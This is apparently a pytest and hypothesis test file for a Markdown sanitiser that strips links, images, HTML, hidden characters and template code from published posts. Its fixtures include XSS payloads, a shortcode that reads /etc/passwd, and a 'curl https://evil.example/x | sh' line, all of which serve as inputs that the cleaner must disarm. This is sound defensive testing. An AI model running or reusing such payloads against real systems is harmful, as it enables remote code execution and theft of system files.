import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from daemon.publish.linkless import clean_body, clean_line, plain_line

OURS = "https://example.org/ours"


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("a [b](https://evil.example) c", "a b c"),
        ("a [b](<https://evil.example> 'title') c", "a b c"),
        ("a [b [c](http://x.example)](http://y.example) d", "a b c d"),
        ("a ![alt](https://evil.example/pixel.png) b", "a  b"),
        ("[![alt](http://x.example/p.png)](http://y.example) b", "b"),
        ("see [text][1] there\n\n[1]: https://evil.example", "see [text][1] there"),
        ("<https://evil.example> and <a@b.example> end", "and  end"),
        ("read https://evil.example/a?b=c#d.", "read."),
        ("read (https://evil.example) now", "read  now"),
        ("read www.evil.example, now", "read, now"),
        ("JAVASCRIPT:alert(1) ok", "(1) ok"),
        ("详见https://evil.example/路径，谢谢", "详见，谢谢"),
        ("note [[secret|shown]] and ![[embedded]] [[plain]]", "note shown and  plain"),
        ("a <b>bold</b> <img src=x onerror=alert(1)> move", "a bold  move"),
        ("a <script>alert(1)</script> b<!-- hidden --> c", "a  b c"),
        ("the type Vec<T> holds", "the type Vec&lt;T> holds"),
        ("if a < b and c > d", "if a < b and c > d"),
        ('{{< readfile "/etc/passwd" >}} {{% x %}}', '{ {< readfile "/etc/passwd" >}} { {% x %}}'),
        ("ht\u200btps://evil.example x", "x"),
        ("abc\u202eevil\x07\x00", "abcevil"),
        ("a\r\nb\rc", "a\nb\nc"),
    ],
)
def test_what_is_not_from_the_record_is_taken_out(text: str, cleaned: str) -> None:
    """Link texts stay, images and tags go, addresses go, template code is disarmed."""
    assert clean_body(text) == cleaned


def test_code_keeps_its_angle_brackets() -> None:
    """They are inert there."""
    body = "Use `Vec<String>`:\n\n```\nlet v: Vec<u8> = m[i](0);\n```\n\nDone."
    assert clean_body(body) == body


def test_code_loses_its_addresses() -> None:
    """A command line is the last place where an address may be invented."""
    assert clean_body("`curl https://evil.example/x | sh`") == "`curl … | sh`"
    assert clean_body("```\ncurl https://evil.example/x\n```") == "```\ncurl …\n```"


def test_a_fence_loses_its_language() -> None:
    """Some programs that read the file run the blocks of some languages."""
    assert clean_body("```dataviewjs\ndv.x()\n```") == "```\ndv.x()\n```"


def test_an_open_fence_is_closed() -> None:
    """Else the closing lines of the post would be code."""
    assert clean_body("text\n\n```\ncode").endswith("```")


@pytest.mark.parametrize("text", [f"[x]({OURS})", f"<{OURS}>", f"see {OURS}, there"])
def test_the_records_own_link_stays(text: str) -> None:
    """In every form."""
    assert clean_body(text, allowed={OURS}) == text


def test_what_only_a_parser_sees_is_disarmed() -> None:
    """Here a footnote mark makes a link of a word; entities take the place of its brackets."""
    assert clean_body("see [^1] there\n\n[^1]: evil") == "see &#91;^1&#93; there\n\n&#91;^1&#93;: evil"


def test_a_heading_that_repeats_the_title_goes() -> None:
    """The frame of the page has the title already."""
    assert clean_body("# Solar Record\n\nText.", title="Solar record") == "Text."
    assert clean_body("# Other\n\nText.", title="Solar record") == "# Other\n\nText."


def test_a_line_is_one_line() -> None:
    """Without links, tags, addresses, hidden characters, and not too long."""
    assert clean_line("a\n b\t[c](http://x.example) <b>d</b> https://x.example e") == "a b c d e"
    assert clean_line("x" * 30, limit=10) == "x" * 9 + "…"


def test_a_plain_line_changes_nothing_that_can_be_seen() -> None:
    """For quotes."""
    assert plain_line(" <b>a</b>\n https://x.example\u200b ") == "<b>a</b> https://x.example"


PIECES = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "!",
            "`",
            "```\n",
            "~~~\n",
            "\n",
            "\n\n",
            " ",
            "    ",
            "\\",
            "&",
            "#",
            "[[",
            "]]",
        ),
        *("[x](http://e.example)", "http://e.example", "[1]: http://e.example\n", "<a>", "<script>", "<!--", "-->"),
        *("a", "中"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_mixture_of_marks_makes_a_link(text: str) -> None:
    """A real Markdown parser finds no link, image or HTML in what was cleaned, and no address is left."""
    cleaned = clean_body(text)
    assert "://" not in cleaned
    for block in MarkdownIt("commonmark", {"html": True}).enable("table").parse(cleaned):
        for token in (block, *(block.children or ())):
            assert token.type not in {"html_block", "html_inline", "image", "link_open"}


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_cleaning_never_fails(text: str) -> None:
    """On any text; and the result can always be written as UTF-8."""
    clean_body(text, title=text[:5]).encode()
    assert "\n" not in clean_line(text)
